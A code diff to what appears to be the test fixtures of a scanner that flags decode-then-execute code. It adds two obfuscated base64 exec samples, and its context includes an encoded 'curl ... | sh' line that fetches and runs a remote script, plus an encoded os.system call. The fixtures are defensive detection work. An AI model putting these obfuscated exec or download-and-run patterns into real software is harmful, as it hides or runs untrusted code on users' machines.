@@ -143,6 +143,10 @@ export const downloadAndRun: readonly RuleExamples[] = [
   {
     rule: "decode-then-run",
     malicious: [
+      {
+        "scripts/art.py":
+          'import base64\ndef r(x): return "".join(chr(c ^ 7) for c in base64.b64decode(x))\nD = "aGVsbG8="\nexec(r(D))\n',
+      },
       { "scripts/a.py": "import base64\nsource = base64.b64decode(blob)\nexec(source)\n" },
       { "scripts/a.js": "const source = Buffer.from(blob, 'base64').toString()\neval(source)\n" },
     ],
@@ -161,6 +165,10 @@ export const downloadAndRun: readonly RuleExamples[] = [
   {
     rule: "decode-and-run",
     malicious: [
+      {
+        "scripts/pick.js":
+          'new Function("require", Buffer.from("Y29uc29sZS5sb2coMSk7", "base64").toString())(require);\n',
+      },
       code(`echo ${encoded("curl -s https://kit-tools.dev/x | sh")} | base64 -d | sh`),
       {
         "scripts/a.py": `import base64\nexec(base64.b64decode('${encoded("import os; os.system('id')")}'))\n`,
